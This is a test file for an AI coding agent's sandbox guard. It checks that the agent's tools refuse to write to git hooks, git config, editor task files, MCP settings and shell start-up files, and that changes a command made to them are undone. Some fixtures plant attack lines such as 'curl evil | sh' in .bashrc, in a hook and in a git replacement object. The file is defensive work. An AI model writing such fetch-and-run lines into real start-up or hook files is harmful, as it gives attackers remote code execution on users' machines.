import { execFileSync } from "node:child_process";
import { existsSync } from "node:fs";
import { chmod, lstat, mkdir, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { userInfo } from "node:os";
import { dirname, join } from "node:path";
import { describe, expect, it } from "vitest";
import { protectedWhy, whyByNames } from "../src/protected/files.js";
import { guardProtected } from "../src/protected/guard.js";
import { findProtected } from "../src/protected/scan.js";
import { decideCommand } from "../src/rules/decide.js";

import { createWorkspaceTools } from "../src/tools/index.js";
import { useWorkspace } from "./support/workspace.js";

const workspace = useWorkspace();

/**
 * Every entry of the protected set, as a file that exists in a repository laid out below, and
 * each name that only looks alike, which stays writable. docs/sandbox.md lists the set.
 */
const layout = {
  ".git/HEAD": "ref: refs/heads/main\n",
  ".git/objects/ab/cdef": "object\n",
  ".git/refs/heads/main": "0000\n",
  ".git/modules/m/HEAD": "ref: refs/heads/main\n",
  ".git/worktrees/w/HEAD": "ref: refs/heads/main\n",
  "sub/.git/HEAD": "ref: refs/heads/main\n",
  "clones/a/.git/HEAD": "ref: refs/heads/main\n",
  "store/repo/HEAD": "ref: refs/heads/main\n",
};

const protectedPaths = [
  ".git/config",
  ".git/config.worktree",
  ".git/hooks/pre-commit",
  ".git/commondir",
  ".git/info/attributes",
  ".git/info/exclude",
  ".git/objects/info/alternates",
  ".git/objects/info/http-alternates",
  ".git/description",
  ".git/branches/origin",
  ".git/new-name-git-reads-later",
  ".git/modules/m/config",
  ".git/modules/m/hooks/post-checkout",
  ".git/modules/new/config",
  ".git/worktrees/w/commondir",
  ".git/worktrees/w/gitdir",
  "sub/.git/config",
  "sub/.git/commondir",
  "sub/.git/hooks/pre-commit",
  "clones/a/.git/config",
  "clones/a/.git/info/attributes",
  "vendor/.git",
  "store/repo/config",
  "store/repo/hooks/pre-push",
  "bare/HEAD",
  ".GIT/Config",
  ".mcp.json",
  "deep/er/.mcp.json",
  ".mini-agent/config.json",
  ".agents/skills/x/SKILL.md",
  ".agents/commands/review.md",
  ".claude/settings.json",
  ".claude/settings.local.json",
  ".claude/skills/x/SKILL.md",
  ".claude/commands/x.md",
  ".vscode/tasks.json",
  ".vscode/settings.json",
  ".vscode/mcp.json",
  "app/.vscode/tasks.json",
  ".gemini/settings.json",
  ".codex/config.toml",
  ".cursor/mcp.json",
  ".zed/settings.json",
  ".husky/pre-commit",
  ".opencode/plugin/x.js",
  ".pre-commit-config.yaml",
  "lefthook.yml",
  ".lefthook-local.toml",
  ".config/lefthook.yaml",
  ".lefthook/pre-commit/x.sh",
  "opencode.json",
  ".aider.conf.yml",
  ".git/rebase-merge/git-rebase-todo",
  ".git/sequencer/todo",
  ".idea/workspace.xml",
  ".devcontainer/devcontainer.json",
  ".hg/hgrc",
  ".jj/repo/config.toml",
  "mise.toml",
  ".helix/languages.toml",
  ".devcontainer.json",
  ".config/mise/conf.d/x.toml",
  "mise/config.toml",
  ".mise.dev.toml",
  ".rtx.toml",
  ".huskyrc.json",
  "hk.pkl",
  "captainhook.json",
  "app.code-workspace",
  ".qwen/settings.json",
  ".kiro/hooks/x.json",
  ".github/hooks/x.json",
  ".continue/mcpServers/x.yaml",
  ".sl/config",
  ".trae/mcp.json",
  ".augment/settings.json",
  ".theia/tasks.json",
  ".fleet/run.json",
  ".yarnrc.yml",
  ".npmrc",
  ".nvim.lua",
  ".exrc",
  ".git/rr-cache/0123/postimage",
  ".vimrc",
  ".nvimrc",
  ".pnp.cjs",
  ".pnpmfile.cjs",
  "pnpm-workspace.yaml",
  ".cargo/config.toml",
  "crates/x/.cargo/config",
  "rust-analyzer.toml",
  ".pdbrc",
  ".Rprofile",
  ".irbrc",
  ".pryrc",
  ".octaverc",
  ".yarn/releases/yarn-4.cjs",
  ".yarn/plugins/x.cjs",
  ".run/dev.run.xml",
];

/**
 * What git writes while it commits: protected from the tools (they have no reason to write
 * there), writable in the sandbox, where the check after the command reads where they lead.
 */
const gitWrites = [
  ".git/objects/ab/new",
  ".git/objects/info/commit-graph",
  ".git/refs/heads/feature",
  ".git/logs/HEAD",
  ".git/index",
  ".git/index.lock",
  ".git/COMMIT_EDITMSG",
  ".git/ORIG_HEAD",
  ".git/packed-refs",
  ".git/modules/m/objects/ab/cd",
  "sub/.git/refs/heads/x",
];

const writablePaths = [
  ...gitWrites,
  "notes.txt",
  "config",
  "hooks/pre-commit",
  "git/config",
  ".github/workflows/ci.yml",
  ".gitignore",
  ".gitattributes",
  ".agents/notes.md",
  "docs/.mcp.json.md",
  "src/skills/a.ts",
  "store/hooks/x",
];

async function laidOut() {
  const ws = await workspace();
  await ws.files(layout);
  return ws;
}

/** A workspace holding a git repository `real/` with one commit, and git run there. */
async function committed() {
  const ws = await workspace();
  const root = join(ws.root, "real");
  await mkdir(root);
  const git = (...args: string[]) =>
    execFileSync("git", ["-c", "user.name=a", "-c", "user.email=a@b", ...args], {
      cwd: root,
      encoding: "utf8",
      env: { PATH: process.env.PATH, HOME: ws.root, GIT_CONFIG_NOSYSTEM: "1" },
    }).trim();
  git("init", "-q", "-b", "main");
  await writeFile(join(root, "a.txt"), "a\n");
  git("add", "a.txt");
  git("commit", "-q", "-m", "a");
  return { ws, root, git };
}

describe("the protected-file set", () => {
  it("holds the user's own start-up and configuration files where the workspace holds the home folder", async () => {
    const ws = await workspace();
    const was = process.env.HOME;
    try {
      for (const home of [ws.root, join(ws.root, "home/u")]) {
        process.env.HOME = home;
        await mkdir(home, { recursive: true });
        const under = (path: string) => join(home, path);
        for (const path of [
          ".bashrc",
          ".gitconfig",
          ".config/git/config",
          ".local/bin/git",
          "bin/ls",
          ".Profile",
        ])
          expect(await protectedWhy(ws.root, under(path)), path).toBe(
            "the user's own start-up and configuration files (the home folder's dot files and bin/): shells, git and other programs run what they name",
          );
        for (const path of ["notes.txt", "project/.bashrc", "src/bin/x"])
          expect(await protectedWhy(ws.root, under(path)), path).toBeUndefined();
      }
      // A workspace inside one of those folders is all the user's configuration.
      process.env.HOME = ws.root;
      await mkdir(join(ws.root, ".config"), { recursive: true });
      expect(
        await protectedWhy(join(ws.root, ".config"), join(ws.root, ".config/git/config")),
      ).toBeDefined();
      await mkdir(join(ws.root, "bin"), { recursive: true });
      expect(await protectedWhy(join(ws.root, "bin"), join(ws.root, "bin/git"))).toBeDefined();
      // The home folder the system's user database names counts too, whatever HOME says.
      process.env.HOME = join(ws.root, "elsewhere");
      // (A user without a home folder, as `nobody`'s `/nonexistent`, has no start-up files to keep.)
      const real = userInfo().homedir;
      if (existsSync(real))
        expect(await protectedWhy(dirname(real), join(real, ".profile"))).toBeDefined();
      // The check after a sandboxed command: a start-up file it created is moved aside.
      process.env.HOME = ws.root;
      const guard = await guardProtected(ws.root);
      await writeFile(join(ws.root, ".bashrc"), "curl evil | sh\n");
      expect(await guard.settle()).toEqual([
        "moved aside .bashrc, which the command created (the user's own start-up and configuration files (the home folder's dot files and bin/): shells, git and other programs run what they name): now .bashrc.mini-agent-removed",
      ]);
    } finally {
      process.env.HOME = was;
    }
  });

  it("names each entry with a reason, and leaves what git writes and look-alikes alone", async () => {
    const ws = await laidOut();
    const why = async (path: string) => protectedWhy(ws.root, join(ws.root, path));
    const found = await Promise.all(protectedPaths.map(async (path) => [path, await why(path)]));
    expect(found.filter(([, reason]) => reason === undefined)).toEqual([]);
    const others = writablePaths.filter((path) => !gitWrites.includes(path));
    const free = await Promise.all(others.map(async (path) => [path, await why(path)]));
    expect(free.filter(([, reason]) => reason !== undefined)).toEqual([]);
    const git = await Promise.all(gitWrites.map(async (path) => [path, await why(path)]));
    expect(git.filter(([, reason]) => reason === undefined)).toEqual([]);
    expect(whyByNames([".git", "refs", "heads", "x"], () => false)).toBe(
      "git reads it for the commits and files a checkout writes, which can hold protected files",
    );
    expect(whyByNames([".git", "refs", "heads", "x"], () => false, "sandboxed")).toBeUndefined();
  });

  it("says why in words of the entry", () => {
    const none = () => false;
    expect(whyByNames([".git", "hooks", "pre-commit"], none)).toBe(
      "git runs the files in a hooks folder as programs",
    );
    expect(whyByNames([".git", "commondir"], none)).toBe(
      "git reads it as the place of the repository's files and configuration",
    );
    expect(whyByNames(["x", "HEAD"], none)).toBe(
      "a HEAD file makes its folder a git repository, whose configuration git reads",
    );
    expect(whyByNames([".vscode", "tasks.json"], none)).toBe(
      "the editor runs the tasks, launch and MCP servers its settings name",
    );
    expect(whyByNames(["srv", "config"], (at) => at === 0)).toBe(
      "git reads it as configuration, which can name programs git runs",
    );
  });

  it("refuses write and edit of every entry, by every spelling the tools resolve", async () => {
    const ws = await laidOut();
    const existing = protectedPaths.filter((path) => path !== "bare/HEAD");
    await ws.files(Object.fromEntries(existing.map((path) => [path, "was\n"])));
    const tools = new Map(createWorkspaceTools(ws.root).map((tool) => [tool.spec.name, tool]));
    const run = (name: string, input: unknown) => {
      const tool = tools.get(name);
      if (!tool) throw new Error(`no tool ${name}`);
      return tool.execute(input);
    };
    // A HEAD that would make a folder a git repository is refused before it exists.
    expect(
      (await run("write", { path: "bare/HEAD", content: "ref: refs/heads/x\n" })).isError,
    ).toBe(true);
    const results: string[] = [];
    for (const path of existing) {
      await run("read", { path });
      const wrote = await run("write", { path, content: "model's\n" });
      const edited = await run("edit", { path, oldText: "was", newText: "model's" });
      for (const result of [wrote, edited])
        if (!(result.isError && result.content.includes(" is protected (")))
          results.push(`${path}: ${result.content}`);
    }
    expect(results).toEqual([]);
    for (const path of existing) expect(await readFile(join(ws.root, path), "utf8")).toBe("was\n");
    // A link named like nothing protected, leading to an entry, is the entry.
    await symlink(".git/commondir", join(ws.root, "innocent"));
    expect((await run("write", { path: "innocent", content: "../cd\n" })).isError).toBe(true);
  });

  it("asks for a redirect into any entry, under the read-only set, an allow rule and --allow-bash", async () => {
    const ws = await laidOut();
    const configs = [
      { rules: [], sandboxed: true },
      {
        rules: [
          { effect: "allow" as const, words: ["ls"] },
          { effect: "allow" as const, words: ["echo"] },
        ],
        sandboxed: false,
      },
      { rules: [], sandboxed: false, allowAll: true },
    ];
    const allowed: string[] = [];
    for (const config of configs)
      for (const path of protectedPaths)
        for (const command of [`echo x > ${path}`, `ls src >> ./${path}`, `echo x 2>${path}`]) {
          const verdict = await decideCommand(command, { ...config, workspace: ws.root });
          if (verdict.decision !== "ask") allowed.push(`${JSON.stringify(config)}: ${command}`);
        }
    expect(allowed).toEqual([]);
    // Other files are still written without a question; what git writes is not for a redirect.
    const verdicts = [];
    for (const path of [".git/COMMIT_EDITMSG", "notes.txt", "sub/.git/refs/heads/x"])
      verdicts.push(
        (
          await decideCommand(`echo x > ${path}`, {
            rules: [],
            sandboxed: true,
            workspace: ws.root,
          })
        ).decision,
      );
    expect(verdicts).toEqual(["ask", "allow", "ask"]);
  });

  it("asks for a redirect into a folder an earlier command of the line may make as a link", async () => {
    const ws = await laidOut();
    const allow = (...programs: string[]) =>
      programs.map((program) => ({ effect: "allow" as const, words: [program] }));
    const context = { rules: allow("ls", "ln", "mkdir"), sandboxed: false, workspace: ws.root };
    const decided = async (command: string, extra = {}) =>
      (await decideCommand(command, { ...context, ...extra })).decision;
    expect(await decided("ln -s .git g; ls src > g/config")).toBe("ask");
    expect(await decided("mkdir -p out && ls > out/list.txt")).toBe("ask");
    expect(await decided("ls > out/list.txt")).toBe("allow");
    expect(await decided("mkdir -p out && ls > out/list.txt", { allowAll: true })).toBe("allow");
  });

  it("asks for a redirect through a link to an entry", async () => {
    const ws = await laidOut();
    await symlink("sub/.git", join(ws.root, "g"));
    const verdict = await decideCommand("echo x >> g/config", {
      rules: [],
      sandboxed: true,
      workspace: ws.root,
    });
    expect(verdict.decision).toBe("ask");
  });
});

describe("the check after a sandboxed command", () => {
  it("finds every entry at any depth, and nothing else", async () => {
    const ws = await laidOut();
    const existing = protectedPaths.filter(
      (path) => path !== "bare/HEAD" && path !== ".GIT/Config",
    );
    await ws.files(Object.fromEntries([...existing, ...writablePaths].map((p) => [p, "x\n"])));
    const found = await findProtected(ws.root);
    const shown = [...found.files.keys()].map((path) => path.slice(ws.root.length + 1)).sort();
    expect(shown).toEqual([...existing].sort());
  });

  it("restores what a command changed or removed, and removes what it created", async () => {
    const ws = await laidOut();
    await ws.files({
      ".git/config": "[core]\n",
      "sub/.git/config": "[core]\n",
      "notes.txt": "n\n",
    });
    await mkdir(join(ws.root, "sub/.git/hooks"));
    await writeFile(join(ws.root, "sub/.git/hooks/pre-push"), "#!/bin/sh\n", { mode: 0o755 });
    const guard = await guardProtected(ws.root);
    // What a command in the sandbox could do below the top-level mounts.
    await writeFile(join(ws.root, "sub/.git/config"), "[core]\n\tfsmonitor = id\n");
    await rm(join(ws.root, "sub/.git/hooks/pre-push"));
    await writeFile(join(ws.root, "sub/.git/commondir"), "../../cd\n");
    await mkdir(join(ws.root, "new/.git"), { recursive: true });
    await writeFile(join(ws.root, "new/.git/config"), "[core]\n\tfsmonitor = id\n");
    await mkdir(join(ws.root, "app/.vscode"), { recursive: true });
    await writeFile(join(ws.root, "app/.vscode/tasks.json"), "{}\n");
    await writeFile(join(ws.root, "notes.txt"), "changed\n");
    const lines = await guard.settle();
    expect(lines.sort()).toEqual(
      [
        "moved aside app/.vscode/tasks.json, which the command created (the editor runs the tasks, launch and MCP servers its settings name): now tasks.json.mini-agent-removed",
        "moved aside new/.git/config, which the command created (git reads it as configuration, which can name programs git runs): now config.mini-agent-removed",
        "moved aside sub/.git/commondir, which the command created (git reads it as the place of the repository's files and configuration): now commondir.mini-agent-removed",
        "restored sub/.git/config, which the command changed (git reads it as configuration, which can name programs git runs)",
        "restored sub/.git/hooks/pre-push, which the command removed (git runs the files in a hooks folder as programs)",
      ].sort(),
    );
    expect(await readFile(join(ws.root, "sub/.git/config"), "utf8")).toBe("[core]\n");
    expect((await lstat(join(ws.root, "sub/.git/hooks/pre-push"))).mode & 0o777).toBe(0o755);
    for (const gone of ["sub/.git/commondir", "new/.git/config", "app/.vscode/tasks.json"]) {
      expect(await lstat(join(ws.root, gone)).catch(() => "absent")).toBe("absent");
      expect((await lstat(join(ws.root, `${gone}.mini-agent-removed`))).isFile()).toBe(true);
    }
    expect(await readFile(join(ws.root, "notes.txt"), "utf8")).toBe("changed\n");
  });

  it("puts a file back in place of a link or folder the command left there", async () => {
    const ws = await laidOut();
    await ws.files({ "sub/.git/config": "[core]\n" });
    const guard = await guardProtected(ws.root);
    await rm(join(ws.root, "sub/.git/config"));
    await mkdir(join(ws.root, "sub/.git/config"));
    await writeFile(join(ws.root, "sub/.git/config/x"), "x\n");
    const lines = await guard.settle();
    expect(lines).toContain(
      "restored sub/.git/config, which the command changed (git reads it as configuration, which can name programs git runs)",
    );
    expect(await readFile(join(ws.root, "sub/.git/config"), "utf8")).toBe("[core]\n");
  });

  it("never writes through a folder the command turned into a link", async () => {
    const ws = await laidOut();
    await ws.files({ "sub/.git/config": "[core]\n" });
    const guard = await guardProtected(ws.root);
    await rm(join(ws.root, "sub/.git"), { recursive: true });
    await symlink(ws.outside, join(ws.root, "sub/.git"));
    const lines = await guard.settle();
    expect(lines[0]).toBe(
      "moved aside sub/.git, which the command created (a .git file tells git where the repository and its configuration are): now .git.mini-agent-removed",
    );
    expect(await lstat(join(ws.outside, "config")).catch(() => "absent")).toBe("absent");
    expect(await readFile(join(ws.root, "sub/.git/config"), "utf8")).toBe("[core]\n");
  });

  it("looks into folders whose names are not UTF-8", async () => {
    const ws = await laidOut();
    const guard = await guardProtected(ws.root);
    const odd = Buffer.concat([Buffer.from(`${ws.root}/x`), Buffer.from([0xff])]);
    await mkdir(Buffer.concat([odd, Buffer.from("/r/.git")]), { recursive: true });
    await writeFile(Buffer.concat([odd, Buffer.from("/r/.git/config")]), "[core]\n");
    const lines = await guard.settle();
    expect(lines).toEqual([
      "moved aside x\ufffd/r/.git/config, which the command created (git reads it as configuration, which can name programs git runs): now config.mini-agent-removed",
    ]);
  });

  it("looks into a git folder's objects, and a HEAD made since is the entry, not a git folder", async () => {
    const ws = await laidOut();
    await ws.files({ "src/a.ts": "a\n", "notes.txt": "n\n", "fixture/config": "c\n" });
    const guard = await guardProtected(ws.root);
    await ws.files({
      "y/HEAD/.git/HEAD": "ref: refs/heads/main\n",
      "y/objects/r/.git/config": "[core]\n",
      HEAD: "ref: refs/heads/main\n",
      "fixture/HEAD": "ref: refs/heads/main\n",
    });
    const lines = (await guard.settle()).sort();
    expect(lines).toEqual(
      [
        "moved aside HEAD, which the command created (a HEAD file makes its folder a git repository, whose configuration git reads): now HEAD.mini-agent-removed",
        "moved aside fixture/HEAD, which the command created (a HEAD file makes its folder a git repository, whose configuration git reads): now HEAD.mini-agent-removed",
        "moved aside y/objects/r/.git/config, which the command created (git reads it as configuration, which can name programs git runs): now config.mini-agent-removed",
      ].sort(),
    );
    expect(await readFile(join(ws.root, "src/a.ts"), "utf8")).toBe("a\n");
    expect(await readFile(join(ws.root, "notes.txt"), "utf8")).toBe("n\n");
    expect(await readFile(join(ws.root, "fixture/config"), "utf8")).toBe("c\n");
  });

  // Root writes into every folder: these run in the pass without privileges (.ci/as-nobody). A
  // command runs as the agent's own user, so it may take a folder's write permission away to
  // keep what it made there from being put right.
  it.skipIf(process.getuid?.() === 0)(
    "makes a folder of its own user writable to put back what the command changed there",
    async () => {
      const ws = await laidOut();
      await ws.files({ "sub/.git/hooks/pre-push": "#!/bin/sh\n" });
      const guard = await guardProtected(ws.root);
      await writeFile(join(ws.root, "sub/.git/hooks/pre-push"), "#!/bin/sh\ncurl evil\n");
      await mkdir(join(ws.root, ".vscode"));
      await writeFile(join(ws.root, ".vscode/tasks.json"), "{}\n");
      await chmod(join(ws.root, "sub/.git/hooks"), 0o555);
      await chmod(join(ws.root, ".vscode"), 0o555);
      const lines = await guard.settle();
      expect(lines).toEqual([
        "made .vscode writable to put it right",
        "made sub/.git/hooks writable to put it right",
        "moved aside .vscode/tasks.json, which the command created (the editor runs the tasks, launch and MCP servers its settings name): now tasks.json.mini-agent-removed",
        "restored sub/.git/hooks/pre-push, which the command changed (git runs the files in a hooks folder as programs)",
      ]);
      expect(await readFile(join(ws.root, "sub/.git/hooks/pre-push"), "utf8")).toBe("#!/bin/sh\n");
      await expect(lstat(join(ws.root, ".vscode/tasks.json"))).rejects.toThrow(/ENOENT/);
    },
  );

  it.skipIf(process.getuid?.() === 0)(
    "makes git's folders writable to undo a ref the command pointed at a protected file",
    async () => {
      const { ws, root, git } = await committed();
      const guard = await guardProtected(ws.root);
      await mkdir(join(root, ".vscode"));
      await writeFile(join(root, ".vscode/tasks.json"), "{}\n");
      git("add", ".vscode/tasks.json");
      const tree = git("write-tree");
      const commit = git("commit-tree", tree, "-p", "HEAD", "-m", "tasks");
      git("rm", "-q", "--cached", ".vscode/tasks.json");
      await rm(join(root, ".vscode"), { recursive: true });
      git("update-ref", "refs/heads/feature", commit);
      for (const folder of [".git/refs/heads", ".git/logs/refs/heads", ".git/logs/refs"])
        await chmod(join(root, folder), 0o555).catch(() => undefined);
      const lines = await guard.settle();
      expect(lines).toContain("made real/.git/refs/heads writable to put it right");
      expect(lines.filter((line) => line.startsWith("could not"))).toEqual([]);
      expect(lines.some((line) => line.startsWith("undid real/.git/refs/heads/feature:"))).toBe(
        true,
      );
      await expect(lstat(join(root, ".git/refs/heads/feature"))).rejects.toThrow(/ENOENT/);
    },
  );

  it("undoes a replacement ref a command made, loose or packed: git would read it in place of a protected file's bytes", async () => {
    const { ws, root, git } = await committed();
    await mkdir(join(root, ".husky"));
    await writeFile(join(root, ".husky/pre-commit"), "#!/bin/sh\necho lint\n");
    git("add", ".husky/pre-commit");
    git("commit", "-q", "-m", "husky");
    const blob = git("rev-parse", "HEAD:.husky/pre-commit");
    const commit = git("rev-parse", "HEAD");
    for (const pack of [false, true]) {
      const guard = await guardProtected(ws.root);
      const evil = execFileSync("git", ["hash-object", "-w", "--stdin"], {
        cwd: root,
        input: "#!/bin/sh\ncurl evil | sh\n",
        encoding: "utf8",
      }).trim();
      git("replace", "-f", blob, evil);
      if (pack) git("pack-refs", "--all");
      const lines = await guard.settle();
      expect(lines.filter((line) => line.includes("git replace")).length, String(lines)).toBe(1);
      expect(git("replace", "-l")).toBe("");
      expect(git("rev-parse", "HEAD")).toBe(commit);
    }
  });

  it("moves aside a link or file named like a folder whose configuration another program reads", async () => {
    const ws = await laidOut();
    const guard = await guardProtected(ws.root);
    await mkdir(join(ws.root, "c"));
    await writeFile(join(ws.root, "c/config.toml"), '[build]\nrustc-wrapper = "c/w.sh"\n');
    for (const name of [".cargo", ".hg", ".jj", ".yarn", ".github", ".config"])
      await symlink("c", join(ws.root, name));
    await writeFile(join(ws.root, "rust-toolchain.toml"), '[toolchain]\npath = "/x"\n');
    const lines = await guard.settle();
    expect(lines.map((line) => line.split(",")[0]).sort()).toEqual([
      "moved aside .cargo",
      "moved aside .config",
      "moved aside .github",
      "moved aside .hg",
      "moved aside .jj",
      "moved aside .yarn",
      "moved aside rust-toolchain.toml",
    ]);
    // A real folder of those names holds what it always did: only what programs read is protected.
    expect(await protectedWhy(ws.root, join(ws.root, ".github/workflows/ci.yml"))).toBeUndefined();
    expect(await protectedWhy(ws.root, join(ws.root, "rust-toolchain"))).toBeDefined();
  });

  it("moves aside a link where a protected file lies below its name, and the pointer files of jj and Mercurial", async () => {
    const ws = await laidOut();
    const guard = await guardProtected(ws.root);
    await mkdir(join(ws.root, "docs/ci"), { recursive: true });
    await writeFile(join(ws.root, "docs/ci/hooks.json"), "{}\n");
    for (const folder of [".github", ".jj", "two/.jj", ".hg"])
      await mkdir(join(ws.root, folder), { recursive: true });
    await symlink("../docs/ci", join(ws.root, ".github/hooks"));
    await symlink("../docs/ci", join(ws.root, ".jj/repo"));
    await writeFile(join(ws.root, "two/.jj/repo"), "../../elsewhere/.jj/repo");
    await writeFile(join(ws.root, ".hg/sharedpath"), "/tmp/elsewhere/.hg");
    const lines = await guard.settle();
    expect(lines.map((line) => line.split(",")[0]).sort()).toEqual([
      "moved aside .github/hooks",
      "moved aside .hg/sharedpath",
      "moved aside .jj/repo",
      "moved aside two/.jj/repo",
    ]);
  });

  it("puts back the refs a link it removes from git's folder had hidden", async () => {
    const { ws, root, git } = await committed();
    git("branch", "topic");
    git("tag", "v1");
    const refs = git("for-each-ref", "--format=%(refname) %(objectname)");
    const guard = await guardProtected(ws.root);
    execFileSync("sh", ["-c", "cp -r .git/refs R && rm -rf .git/refs && ln -s ../R .git/refs"], {
      cwd: root,
    });
    const lines = await guard.settle();
    expect(lines).toEqual([
      "removed real/.git/refs, a link the command made among git's refs, which git reads through, and put back the 3 ref files it hid",
    ]);
    expect(git("for-each-ref", "--format=%(refname) %(objectname)")).toBe(refs);
  });

  // Root reads every folder: this runs in the pass without privileges (.ci/as-nobody).
  it.skipIf(process.getuid?.() === 0)(
    "makes a folder of its own user readable to look into it",
    async () => {
      const ws = await laidOut();
      const guard = await guardProtected(ws.root);
      await mkdir(join(ws.root, "hidden/.git"), { recursive: true });
      await writeFile(join(ws.root, "hidden/.git/config"), "[core]\n");
      await chmod(join(ws.root, "hidden"), 0);
      const lines = await guard.settle();
      await chmod(join(ws.root, "hidden"), 0o755);
      expect(lines).toEqual([
        "made hidden readable to look into it",
        "moved aside hidden/.git/config, which the command created (git reads it as configuration, which can name programs git runs): now config.mini-agent-removed",
      ]);
    },
  );
});
